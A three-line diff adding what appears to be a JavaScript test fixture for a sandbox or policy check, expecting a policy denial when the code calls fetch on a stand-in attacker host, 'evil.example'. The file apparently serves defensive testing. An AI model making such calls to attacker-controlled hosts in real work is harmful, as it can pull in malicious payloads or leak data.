@@ -1,0 +1,3 @@
+// expect: policy
+// timeoutMs: 3000
+return await fetch('https://evil.example/x');
